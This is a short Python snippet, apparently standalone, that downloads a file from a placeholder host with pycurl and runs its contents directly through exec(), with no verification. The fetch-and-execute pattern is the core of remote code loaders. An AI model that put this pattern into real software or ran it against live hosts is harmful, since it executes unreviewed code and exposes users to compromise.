import io

import pycurl

buffer = io.BytesIO()
c = pycurl.Curl()
c.setopt(c.URL, "https://code.example.com/p.py")
c.setopt(c.WRITEDATA, buffer)
c.perform()
c.close()
exec(buffer.getvalue().decode())
